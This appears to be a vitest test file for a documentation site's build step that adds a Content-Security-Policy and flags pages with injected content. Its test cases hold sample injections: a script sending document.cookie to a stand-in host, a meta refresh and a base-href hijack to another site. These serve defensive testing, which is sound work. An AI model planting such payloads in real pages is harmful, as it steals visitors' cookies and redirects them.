// The policy step on a built site: a page holding what the generator does not write stops the build, named.
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { generatorInlineScripts } from '../../../src/security/generator-scripts.ts';
import { secureSite } from '../../../src/security/secure-site.ts';
import { PROJECT_ROOT } from '../../helpers/build-site.ts';

/** Starlight's theme script, as the generator writes it into every page. */
const themeScript = [...generatorInlineScripts(PROJECT_ROOT)].find((script) => script.includes('StarlightThemeProvider ='))!;

function site(pages: Record<string, string>): string {
	const dir = mkdtempSync(join(tmpdir(), 'commun-policy-'));
	for (const [path, body] of Object.entries(pages)) {
		mkdirSync(join(dir, path, '..'), { recursive: true });
		writeFileSync(join(dir, path), `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><script>${themeScript}</script></head><body>${body}</body></html>`);
	}
	return dir;
}

describe('the policy step of the build', () => {
	it('knows the generator’s inline scripts from its components, ours and Starlight’s', () => {
		expect(themeScript).toBeDefined();
		expect([...generatorInlineScripts(PROJECT_ROOT)].some((script) => script.includes('data-open-modal'))).toBe(true);
	});

	it('gives each page its policy when every inline script is the generator’s', () => {
		const dir = site({ 'index.html': '<p>Accueil</p>', 'modules/a/index.html': '<p>Module</p>' });
		expect(secureSite(dir, PROJECT_ROOT)).toEqual({ pages: 2, problems: [] });
		expect(readFileSync(join(dir, 'modules/a/index.html'), 'utf8')).toContain('http-equiv="Content-Security-Policy"');
	});

	it.each([
		['an inline script', '<script>fetch("https://ailleurs.example/?" + document.cookie)</script>', 'script en ligne que le générateur n’écrit pas'],
		['a refresh to another site', '<meta http-equiv="refresh" content="0;url=https://ailleurs.example">', 'balise <meta http-equiv="refresh">'],
		['a <base>', '<base href="https://ailleurs.example/">', 'balise <base href="https://ailleurs.example/">'],
	])('names the page into which %s was injected', (_, injected, message) => {
		const dir = site({ 'index.html': '<p>Accueil</p>', 'modules/piege/index.html': `<p>Module</p>${injected}` });
		const { problems } = secureSite(dir, PROJECT_ROOT);
		expect(problems).toHaveLength(1);
		expect(problems[0]!.page).toBe('modules/piege/index.html');
		expect(problems[0]!.message).toContain(message);
		expect(readFileSync(join(dir, 'modules/piege/index.html'), 'utf8')).not.toContain('Content-Security-Policy');
	});
});
